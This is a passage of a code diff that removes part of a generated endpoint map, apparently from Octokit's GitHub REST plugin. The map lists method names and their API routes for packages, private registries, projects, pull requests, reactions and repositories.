-        updateWebhookConfigForOrg: ["PATCH /orgs/{org}/hooks/{hook_id}/config"]
-      },
-      packages: {
-        deletePackageForAuthenticatedUser: [
-          "DELETE /user/packages/{package_type}/{package_name}"
-        ],
-        deletePackageForOrg: [
-          "DELETE /orgs/{org}/packages/{package_type}/{package_name}"
-        ],
-        deletePackageForUser: [
-          "DELETE /users/{username}/packages/{package_type}/{package_name}"
-        ],
-        deletePackageVersionForAuthenticatedUser: [
-          "DELETE /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        deletePackageVersionForOrg: [
-          "DELETE /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        deletePackageVersionForUser: [
-          "DELETE /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        getAllPackageVersionsForAPackageOwnedByAnOrg: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}/versions",
-          {},
-          { renamed: ["packages", "getAllPackageVersionsForPackageOwnedByOrg"] }
-        ],
-        getAllPackageVersionsForAPackageOwnedByTheAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}/versions",
-          {},
-          {
-            renamed: [
-              "packages",
-              "getAllPackageVersionsForPackageOwnedByAuthenticatedUser"
-            ]
-          }
-        ],
-        getAllPackageVersionsForPackageOwnedByAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}/versions"
-        ],
-        getAllPackageVersionsForPackageOwnedByOrg: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}/versions"
-        ],
-        getAllPackageVersionsForPackageOwnedByUser: [
-          "GET /users/{username}/packages/{package_type}/{package_name}/versions"
-        ],
-        getPackageForAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}"
-        ],
-        getPackageForOrganization: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}"
-        ],
-        getPackageForUser: [
-          "GET /users/{username}/packages/{package_type}/{package_name}"
-        ],
-        getPackageVersionForAuthenticatedUser: [
-          "GET /user/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        getPackageVersionForOrganization: [
-          "GET /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        getPackageVersionForUser: [
-          "GET /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}"
-        ],
-        listDockerMigrationConflictingPackagesForAuthenticatedUser: [
-          "GET /user/docker/conflicts"
-        ],
-        listDockerMigrationConflictingPackagesForOrganization: [
-          "GET /orgs/{org}/docker/conflicts"
-        ],
-        listDockerMigrationConflictingPackagesForUser: [
-          "GET /users/{username}/docker/conflicts"
-        ],
-        listPackagesForAuthenticatedUser: ["GET /user/packages"],
-        listPackagesForOrganization: ["GET /orgs/{org}/packages"],
-        listPackagesForUser: ["GET /users/{username}/packages"],
-        restorePackageForAuthenticatedUser: [
-          "POST /user/packages/{package_type}/{package_name}/restore{?token}"
-        ],
-        restorePackageForOrg: [
-          "POST /orgs/{org}/packages/{package_type}/{package_name}/restore{?token}"
-        ],
-        restorePackageForUser: [
-          "POST /users/{username}/packages/{package_type}/{package_name}/restore{?token}"
-        ],
-        restorePackageVersionForAuthenticatedUser: [
-          "POST /user/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
-        ],
-        restorePackageVersionForOrg: [
-          "POST /orgs/{org}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
-        ],
-        restorePackageVersionForUser: [
-          "POST /users/{username}/packages/{package_type}/{package_name}/versions/{package_version_id}/restore"
-        ]
-      },
-      privateRegistries: {
-        createOrgPrivateRegistry: ["POST /orgs/{org}/private-registries"],
-        deleteOrgPrivateRegistry: [
-          "DELETE /orgs/{org}/private-registries/{secret_name}"
-        ],
-        getOrgPrivateRegistry: ["GET /orgs/{org}/private-registries/{secret_name}"],
-        getOrgPublicKey: ["GET /orgs/{org}/private-registries/public-key"],
-        listOrgPrivateRegistries: ["GET /orgs/{org}/private-registries"],
-        updateOrgPrivateRegistry: [
-          "PATCH /orgs/{org}/private-registries/{secret_name}"
-        ]
-      },
-      projects: {
-        addCollaborator: ["PUT /projects/{project_id}/collaborators/{username}"],
-        createCard: ["POST /projects/columns/{column_id}/cards"],
-        createColumn: ["POST /projects/{project_id}/columns"],
-        createForAuthenticatedUser: ["POST /user/projects"],
-        createForOrg: ["POST /orgs/{org}/projects"],
-        createForRepo: ["POST /repos/{owner}/{repo}/projects"],
-        delete: ["DELETE /projects/{project_id}"],
-        deleteCard: ["DELETE /projects/columns/cards/{card_id}"],
-        deleteColumn: ["DELETE /projects/columns/{column_id}"],
-        get: ["GET /projects/{project_id}"],
-        getCard: ["GET /projects/columns/cards/{card_id}"],
-        getColumn: ["GET /projects/columns/{column_id}"],
-        getPermissionForUser: [
-          "GET /projects/{project_id}/collaborators/{username}/permission"
-        ],
-        listCards: ["GET /projects/columns/{column_id}/cards"],
-        listCollaborators: ["GET /projects/{project_id}/collaborators"],
-        listColumns: ["GET /projects/{project_id}/columns"],
-        listForOrg: ["GET /orgs/{org}/projects"],
-        listForRepo: ["GET /repos/{owner}/{repo}/projects"],
-        listForUser: ["GET /users/{username}/projects"],
-        moveCard: ["POST /projects/columns/cards/{card_id}/moves"],
-        moveColumn: ["POST /projects/columns/{column_id}/moves"],
-        removeCollaborator: [
-          "DELETE /projects/{project_id}/collaborators/{username}"
-        ],
-        update: ["PATCH /projects/{project_id}"],
-        updateCard: ["PATCH /projects/columns/cards/{card_id}"],
-        updateColumn: ["PATCH /projects/columns/{column_id}"]
-      },
-      pulls: {
-        checkIfMerged: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
-        create: ["POST /repos/{owner}/{repo}/pulls"],
-        createReplyForReviewComment: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments/{comment_id}/replies"
-        ],
-        createReview: ["POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
-        createReviewComment: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/comments"
-        ],
-        deletePendingReview: [
-          "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
-        ],
-        deleteReviewComment: [
-          "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}"
-        ],
-        dismissReview: [
-          "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/dismissals"
-        ],
-        get: ["GET /repos/{owner}/{repo}/pulls/{pull_number}"],
-        getReview: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
-        ],
-        getReviewComment: ["GET /repos/{owner}/{repo}/pulls/comments/{comment_id}"],
-        list: ["GET /repos/{owner}/{repo}/pulls"],
-        listCommentsForReview: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/comments"
-        ],
-        listCommits: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/commits"],
-        listFiles: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/files"],
-        listRequestedReviewers: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
-        ],
-        listReviewComments: [
-          "GET /repos/{owner}/{repo}/pulls/{pull_number}/comments"
-        ],
-        listReviewCommentsForRepo: ["GET /repos/{owner}/{repo}/pulls/comments"],
-        listReviews: ["GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews"],
-        merge: ["PUT /repos/{owner}/{repo}/pulls/{pull_number}/merge"],
-        removeRequestedReviewers: [
-          "DELETE /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
-        ],
-        requestReviewers: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers"
-        ],
-        submitReview: [
-          "POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}/events"
-        ],
-        update: ["PATCH /repos/{owner}/{repo}/pulls/{pull_number}"],
-        updateBranch: [
-          "PUT /repos/{owner}/{repo}/pulls/{pull_number}/update-branch"
-        ],
-        updateReview: [
-          "PUT /repos/{owner}/{repo}/pulls/{pull_number}/reviews/{review_id}"
-        ],
-        updateReviewComment: [
-          "PATCH /repos/{owner}/{repo}/pulls/comments/{comment_id}"
-        ]
-      },
-      rateLimit: { get: ["GET /rate_limit"] },
-      reactions: {
-        createForCommitComment: [
-          "POST /repos/{owner}/{repo}/comments/{comment_id}/reactions"
-        ],
-        createForIssue: [
-          "POST /repos/{owner}/{repo}/issues/{issue_number}/reactions"
-        ],
-        createForIssueComment: [
-          "POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
-        ],
-        createForPullRequestReviewComment: [
-          "POST /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
-        ],
-        createForRelease: [
-          "POST /repos/{owner}/{repo}/releases/{release_id}/reactions"
-        ],
-        createForTeamDiscussionCommentInOrg: [
-          "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
-        ],
-        createForTeamDiscussionInOrg: [
-          "POST /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
-        ],
-        deleteForCommitComment: [
-          "DELETE /repos/{owner}/{repo}/comments/{comment_id}/reactions/{reaction_id}"
-        ],
-        deleteForIssue: [
-          "DELETE /repos/{owner}/{repo}/issues/{issue_number}/reactions/{reaction_id}"
-        ],
-        deleteForIssueComment: [
-          "DELETE /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions/{reaction_id}"
-        ],
-        deleteForPullRequestComment: [
-          "DELETE /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions/{reaction_id}"
-        ],
-        deleteForRelease: [
-          "DELETE /repos/{owner}/{repo}/releases/{release_id}/reactions/{reaction_id}"
-        ],
-        deleteForTeamDiscussion: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions/{reaction_id}"
-        ],
-        deleteForTeamDiscussionComment: [
-          "DELETE /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions/{reaction_id}"
-        ],
-        listForCommitComment: [
-          "GET /repos/{owner}/{repo}/comments/{comment_id}/reactions"
-        ],
-        listForIssue: ["GET /repos/{owner}/{repo}/issues/{issue_number}/reactions"],
-        listForIssueComment: [
-          "GET /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions"
-        ],
-        listForPullRequestReviewComment: [
-          "GET /repos/{owner}/{repo}/pulls/comments/{comment_id}/reactions"
-        ],
-        listForRelease: [
-          "GET /repos/{owner}/{repo}/releases/{release_id}/reactions"
-        ],
-        listForTeamDiscussionCommentInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments/{comment_number}/reactions"
-        ],
-        listForTeamDiscussionInOrg: [
-          "GET /orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/reactions"
-        ]
-      },
-      repos: {
-        acceptInvitation: [
-          "PATCH /user/repository_invitations/{invitation_id}",
-          {},
-          { renamed: ["repos", "acceptInvitationForAuthenticatedUser"] }
-        ],
-        acceptInvitationForAuthenticatedUser: [
-          "PATCH /user/repository_invitations/{invitation_id}"
-        ],
-        addAppAccessRestrictions: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
-          {},
-          { mapToData: "apps" }
-        ],
-        addCollaborator: ["PUT /repos/{owner}/{repo}/collaborators/{username}"],
-        addStatusCheckContexts: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
-          {},
-          { mapToData: "contexts" }
-        ],
-        addTeamAccessRestrictions: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
-          {},
-          { mapToData: "teams" }
-        ],
-        addUserAccessRestrictions: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
-          {},
-          { mapToData: "users" }
-        ],
-        cancelPagesDeployment: [
-          "POST /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}/cancel"
-        ],
-        checkAutomatedSecurityFixes: [
-          "GET /repos/{owner}/{repo}/automated-security-fixes"
-        ],
-        checkCollaborator: ["GET /repos/{owner}/{repo}/collaborators/{username}"],
-        checkPrivateVulnerabilityReporting: [
-          "GET /repos/{owner}/{repo}/private-vulnerability-reporting"
-        ],
-        checkVulnerabilityAlerts: [
-          "GET /repos/{owner}/{repo}/vulnerability-alerts"
-        ],
-        codeownersErrors: ["GET /repos/{owner}/{repo}/codeowners/errors"],
-        compareCommits: ["GET /repos/{owner}/{repo}/compare/{base}...{head}"],
-        compareCommitsWithBasehead: [
-          "GET /repos/{owner}/{repo}/compare/{basehead}"
-        ],
-        createAttestation: ["POST /repos/{owner}/{repo}/attestations"],
-        createAutolink: ["POST /repos/{owner}/{repo}/autolinks"],
-        createCommitComment: [
-          "POST /repos/{owner}/{repo}/commits/{commit_sha}/comments"
-        ],
-        createCommitSignatureProtection: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
-        ],
-        createCommitStatus: ["POST /repos/{owner}/{repo}/statuses/{sha}"],
-        createDeployKey: ["POST /repos/{owner}/{repo}/keys"],
-        createDeployment: ["POST /repos/{owner}/{repo}/deployments"],
-        createDeploymentBranchPolicy: [
-          "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
-        ],
-        createDeploymentProtectionRule: [
-          "POST /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
-        ],
-        createDeploymentStatus: [
-          "POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
-        ],
-        createDispatchEvent: ["POST /repos/{owner}/{repo}/dispatches"],
-        createForAuthenticatedUser: ["POST /user/repos"],
-        createFork: ["POST /repos/{owner}/{repo}/forks"],
-        createInOrg: ["POST /orgs/{org}/repos"],
-        createOrUpdateCustomPropertiesValues: [
-          "PATCH /repos/{owner}/{repo}/properties/values"
-        ],
-        createOrUpdateEnvironment: [
-          "PUT /repos/{owner}/{repo}/environments/{environment_name}"
-        ],
-        createOrUpdateFileContents: ["PUT /repos/{owner}/{repo}/contents/{path}"],
-        createOrgRuleset: ["POST /orgs/{org}/rulesets"],
-        createPagesDeployment: ["POST /repos/{owner}/{repo}/pages/deployments"],
-        createPagesSite: ["POST /repos/{owner}/{repo}/pages"],
-        createRelease: ["POST /repos/{owner}/{repo}/releases"],
-        createRepoRuleset: ["POST /repos/{owner}/{repo}/rulesets"],
-        createUsingTemplate: [
-          "POST /repos/{template_owner}/{template_repo}/generate"
-        ],
-        createWebhook: ["POST /repos/{owner}/{repo}/hooks"],
-        declineInvitation: [
-          "DELETE /user/repository_invitations/{invitation_id}",
-          {},
-          { renamed: ["repos", "declineInvitationForAuthenticatedUser"] }
-        ],
-        declineInvitationForAuthenticatedUser: [
-          "DELETE /user/repository_invitations/{invitation_id}"
-        ],
-        delete: ["DELETE /repos/{owner}/{repo}"],
-        deleteAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
-        ],
-        deleteAdminBranchProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
-        ],
-        deleteAnEnvironment: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}"
-        ],
-        deleteAutolink: ["DELETE /repos/{owner}/{repo}/autolinks/{autolink_id}"],
-        deleteBranchProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection"
-        ],
-        deleteCommitComment: ["DELETE /repos/{owner}/{repo}/comments/{comment_id}"],
-        deleteCommitSignatureProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
-        ],
-        deleteDeployKey: ["DELETE /repos/{owner}/{repo}/keys/{key_id}"],
-        deleteDeployment: [
-          "DELETE /repos/{owner}/{repo}/deployments/{deployment_id}"
-        ],
-        deleteDeploymentBranchPolicy: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
-        ],
-        deleteFile: ["DELETE /repos/{owner}/{repo}/contents/{path}"],
-        deleteInvitation: [
-          "DELETE /repos/{owner}/{repo}/invitations/{invitation_id}"
-        ],
-        deleteOrgRuleset: ["DELETE /orgs/{org}/rulesets/{ruleset_id}"],
-        deletePagesSite: ["DELETE /repos/{owner}/{repo}/pages"],
-        deletePullRequestReviewProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
-        ],
-        deleteRelease: ["DELETE /repos/{owner}/{repo}/releases/{release_id}"],
-        deleteReleaseAsset: [
-          "DELETE /repos/{owner}/{repo}/releases/assets/{asset_id}"
-        ],
-        deleteRepoRuleset: ["DELETE /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
-        deleteWebhook: ["DELETE /repos/{owner}/{repo}/hooks/{hook_id}"],
-        disableAutomatedSecurityFixes: [
-          "DELETE /repos/{owner}/{repo}/automated-security-fixes"
-        ],
-        disableDeploymentProtectionRule: [
-          "DELETE /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
-        ],
-        disablePrivateVulnerabilityReporting: [
-          "DELETE /repos/{owner}/{repo}/private-vulnerability-reporting"
-        ],
-        disableVulnerabilityAlerts: [
-          "DELETE /repos/{owner}/{repo}/vulnerability-alerts"
-        ],
-        downloadArchive: [
-          "GET /repos/{owner}/{repo}/zipball/{ref}",
-          {},
-          { renamed: ["repos", "downloadZipballArchive"] }
-        ],
-        downloadTarballArchive: ["GET /repos/{owner}/{repo}/tarball/{ref}"],
-        downloadZipballArchive: ["GET /repos/{owner}/{repo}/zipball/{ref}"],
-        enableAutomatedSecurityFixes: [
-          "PUT /repos/{owner}/{repo}/automated-security-fixes"
-        ],
-        enablePrivateVulnerabilityReporting: [
-          "PUT /repos/{owner}/{repo}/private-vulnerability-reporting"
-        ],
-        enableVulnerabilityAlerts: [
-          "PUT /repos/{owner}/{repo}/vulnerability-alerts"
-        ],
-        generateReleaseNotes: [
-          "POST /repos/{owner}/{repo}/releases/generate-notes"
-        ],
-        get: ["GET /repos/{owner}/{repo}"],
-        getAccessRestrictions: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions"
-        ],
-        getAdminBranchProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
-        ],
-        getAllDeploymentProtectionRules: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules"
-        ],
-        getAllEnvironments: ["GET /repos/{owner}/{repo}/environments"],
-        getAllStatusCheckContexts: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts"
-        ],
-        getAllTopics: ["GET /repos/{owner}/{repo}/topics"],
-        getAppsWithAccessToProtectedBranch: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps"
-        ],
-        getAutolink: ["GET /repos/{owner}/{repo}/autolinks/{autolink_id}"],
-        getBranch: ["GET /repos/{owner}/{repo}/branches/{branch}"],
-        getBranchProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection"
-        ],
-        getBranchRules: ["GET /repos/{owner}/{repo}/rules/branches/{branch}"],
-        getClones: ["GET /repos/{owner}/{repo}/traffic/clones"],
-        getCodeFrequencyStats: ["GET /repos/{owner}/{repo}/stats/code_frequency"],
-        getCollaboratorPermissionLevel: [
-          "GET /repos/{owner}/{repo}/collaborators/{username}/permission"
-        ],
-        getCombinedStatusForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/status"],
-        getCommit: ["GET /repos/{owner}/{repo}/commits/{ref}"],
-        getCommitActivityStats: ["GET /repos/{owner}/{repo}/stats/commit_activity"],
-        getCommitComment: ["GET /repos/{owner}/{repo}/comments/{comment_id}"],
-        getCommitSignatureProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_signatures"
-        ],
-        getCommunityProfileMetrics: ["GET /repos/{owner}/{repo}/community/profile"],
-        getContent: ["GET /repos/{owner}/{repo}/contents/{path}"],
-        getContributorsStats: ["GET /repos/{owner}/{repo}/stats/contributors"],
-        getCustomDeploymentProtectionRule: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/{protection_rule_id}"
-        ],
-        getCustomPropertiesValues: ["GET /repos/{owner}/{repo}/properties/values"],
-        getDeployKey: ["GET /repos/{owner}/{repo}/keys/{key_id}"],
-        getDeployment: ["GET /repos/{owner}/{repo}/deployments/{deployment_id}"],
-        getDeploymentBranchPolicy: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
-        ],
-        getDeploymentStatus: [
-          "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses/{status_id}"
-        ],
-        getEnvironment: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}"
-        ],
-        getLatestPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/latest"],
-        getLatestRelease: ["GET /repos/{owner}/{repo}/releases/latest"],
-        getOrgRuleSuite: ["GET /orgs/{org}/rulesets/rule-suites/{rule_suite_id}"],
-        getOrgRuleSuites: ["GET /orgs/{org}/rulesets/rule-suites"],
-        getOrgRuleset: ["GET /orgs/{org}/rulesets/{ruleset_id}"],
-        getOrgRulesets: ["GET /orgs/{org}/rulesets"],
-        getPages: ["GET /repos/{owner}/{repo}/pages"],
-        getPagesBuild: ["GET /repos/{owner}/{repo}/pages/builds/{build_id}"],
-        getPagesDeployment: [
-          "GET /repos/{owner}/{repo}/pages/deployments/{pages_deployment_id}"
-        ],
-        getPagesHealthCheck: ["GET /repos/{owner}/{repo}/pages/health"],
-        getParticipationStats: ["GET /repos/{owner}/{repo}/stats/participation"],
-        getPullRequestReviewProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
-        ],
-        getPunchCardStats: ["GET /repos/{owner}/{repo}/stats/punch_card"],
-        getReadme: ["GET /repos/{owner}/{repo}/readme"],
-        getReadmeInDirectory: ["GET /repos/{owner}/{repo}/readme/{dir}"],
-        getRelease: ["GET /repos/{owner}/{repo}/releases/{release_id}"],
-        getReleaseAsset: ["GET /repos/{owner}/{repo}/releases/assets/{asset_id}"],
-        getReleaseByTag: ["GET /repos/{owner}/{repo}/releases/tags/{tag}"],
-        getRepoRuleSuite: [
-          "GET /repos/{owner}/{repo}/rulesets/rule-suites/{rule_suite_id}"
-        ],
-        getRepoRuleSuites: ["GET /repos/{owner}/{repo}/rulesets/rule-suites"],
-        getRepoRuleset: ["GET /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
-        getRepoRulesets: ["GET /repos/{owner}/{repo}/rulesets"],
-        getStatusChecksProtection: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
-        ],
-        getTeamsWithAccessToProtectedBranch: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams"
-        ],
-        getTopPaths: ["GET /repos/{owner}/{repo}/traffic/popular/paths"],
-        getTopReferrers: ["GET /repos/{owner}/{repo}/traffic/popular/referrers"],
-        getUsersWithAccessToProtectedBranch: [
-          "GET /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users"
-        ],
-        getViews: ["GET /repos/{owner}/{repo}/traffic/views"],
-        getWebhook: ["GET /repos/{owner}/{repo}/hooks/{hook_id}"],
-        getWebhookConfigForRepo: [
-          "GET /repos/{owner}/{repo}/hooks/{hook_id}/config"
-        ],
-        getWebhookDelivery: [
-          "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}"
-        ],
-        listActivities: ["GET /repos/{owner}/{repo}/activity"],
-        listAttestations: [
-          "GET /repos/{owner}/{repo}/attestations/{subject_digest}"
-        ],
-        listAutolinks: ["GET /repos/{owner}/{repo}/autolinks"],
-        listBranches: ["GET /repos/{owner}/{repo}/branches"],
-        listBranchesForHeadCommit: [
-          "GET /repos/{owner}/{repo}/commits/{commit_sha}/branches-where-head"
-        ],
-        listCollaborators: ["GET /repos/{owner}/{repo}/collaborators"],
-        listCommentsForCommit: [
-          "GET /repos/{owner}/{repo}/commits/{commit_sha}/comments"
-        ],
-        listCommitCommentsForRepo: ["GET /repos/{owner}/{repo}/comments"],
-        listCommitStatusesForRef: [
-          "GET /repos/{owner}/{repo}/commits/{ref}/statuses"
-        ],
-        listCommits: ["GET /repos/{owner}/{repo}/commits"],
-        listContributors: ["GET /repos/{owner}/{repo}/contributors"],
-        listCustomDeploymentRuleIntegrations: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment_protection_rules/apps"
-        ],
-        listDeployKeys: ["GET /repos/{owner}/{repo}/keys"],
-        listDeploymentBranchPolicies: [
-          "GET /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies"
-        ],
-        listDeploymentStatuses: [
-          "GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses"
-        ],
-        listDeployments: ["GET /repos/{owner}/{repo}/deployments"],
-        listForAuthenticatedUser: ["GET /user/repos"],
-        listForOrg: ["GET /orgs/{org}/repos"],
-        listForUser: ["GET /users/{username}/repos"],
-        listForks: ["GET /repos/{owner}/{repo}/forks"],
-        listInvitations: ["GET /repos/{owner}/{repo}/invitations"],
-        listInvitationsForAuthenticatedUser: ["GET /user/repository_invitations"],
-        listLanguages: ["GET /repos/{owner}/{repo}/languages"],
-        listPagesBuilds: ["GET /repos/{owner}/{repo}/pages/builds"],
-        listPublic: ["GET /repositories"],
-        listPullRequestsAssociatedWithCommit: [
-          "GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls"
-        ],
-        listReleaseAssets: [
-          "GET /repos/{owner}/{repo}/releases/{release_id}/assets"
-        ],
-        listReleases: ["GET /repos/{owner}/{repo}/releases"],
-        listTags: ["GET /repos/{owner}/{repo}/tags"],
-        listTeams: ["GET /repos/{owner}/{repo}/teams"],
-        listWebhookDeliveries: [
-          "GET /repos/{owner}/{repo}/hooks/{hook_id}/deliveries"
-        ],
-        listWebhooks: ["GET /repos/{owner}/{repo}/hooks"],
-        merge: ["POST /repos/{owner}/{repo}/merges"],
-        mergeUpstream: ["POST /repos/{owner}/{repo}/merge-upstream"],
-        pingWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/pings"],
-        redeliverWebhookDelivery: [
-          "POST /repos/{owner}/{repo}/hooks/{hook_id}/deliveries/{delivery_id}/attempts"
-        ],
-        removeAppAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
-          {},
-          { mapToData: "apps" }
-        ],
-        removeCollaborator: [
-          "DELETE /repos/{owner}/{repo}/collaborators/{username}"
-        ],
-        removeStatusCheckContexts: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
-          {},
-          { mapToData: "contexts" }
-        ],
-        removeStatusCheckProtection: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
-        ],
-        removeTeamAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
-          {},
-          { mapToData: "teams" }
-        ],
-        removeUserAccessRestrictions: [
-          "DELETE /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
-          {},
-          { mapToData: "users" }
-        ],
-        renameBranch: ["POST /repos/{owner}/{repo}/branches/{branch}/rename"],
-        replaceAllTopics: ["PUT /repos/{owner}/{repo}/topics"],
-        requestPagesBuild: ["POST /repos/{owner}/{repo}/pages/builds"],
-        setAdminBranchProtection: [
-          "POST /repos/{owner}/{repo}/branches/{branch}/protection/enforce_admins"
-        ],
-        setAppAccessRestrictions: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/apps",
-          {},
-          { mapToData: "apps" }
-        ],
-        setStatusCheckContexts: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks/contexts",
-          {},
-          { mapToData: "contexts" }
-        ],
-        setTeamAccessRestrictions: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/teams",
-          {},
-          { mapToData: "teams" }
-        ],
-        setUserAccessRestrictions: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection/restrictions/users",
-          {},
-          { mapToData: "users" }
-        ],
-        testPushWebhook: ["POST /repos/{owner}/{repo}/hooks/{hook_id}/tests"],
-        transfer: ["POST /repos/{owner}/{repo}/transfer"],
-        update: ["PATCH /repos/{owner}/{repo}"],
-        updateBranchProtection: [
-          "PUT /repos/{owner}/{repo}/branches/{branch}/protection"
-        ],
-        updateCommitComment: ["PATCH /repos/{owner}/{repo}/comments/{comment_id}"],
-        updateDeploymentBranchPolicy: [
-          "PUT /repos/{owner}/{repo}/environments/{environment_name}/deployment-branch-policies/{branch_policy_id}"
-        ],
-        updateInformationAboutPagesSite: ["PUT /repos/{owner}/{repo}/pages"],
-        updateInvitation: [
-          "PATCH /repos/{owner}/{repo}/invitations/{invitation_id}"
-        ],
-        updateOrgRuleset: ["PUT /orgs/{org}/rulesets/{ruleset_id}"],
-        updatePullRequestReviewProtection: [
-          "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews"
-        ],
-        updateRelease: ["PATCH /repos/{owner}/{repo}/releases/{release_id}"],
-        updateReleaseAsset: [
-          "PATCH /repos/{owner}/{repo}/releases/assets/{asset_id}"
-        ],
-        updateRepoRuleset: ["PUT /repos/{owner}/{repo}/rulesets/{ruleset_id}"],
-        updateStatusCheckPotection: [
-          "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks",
-          {},
-          { renamed: ["repos", "updateStatusCheckProtection"] }
-        ],
-        updateStatusCheckProtection: [
-          "PATCH /repos/{owner}/{repo}/branches/{branch}/protection/required_status_checks"
-        ],
-        updateWebhook: ["PATCH /repos/{owner}/{repo}/hooks/{hook_id}"],
-        updateWebhookConfigForRepo: [
-          "PATCH /repos/{owner}/{repo}/hooks/{hook_id}/config"
-        ],
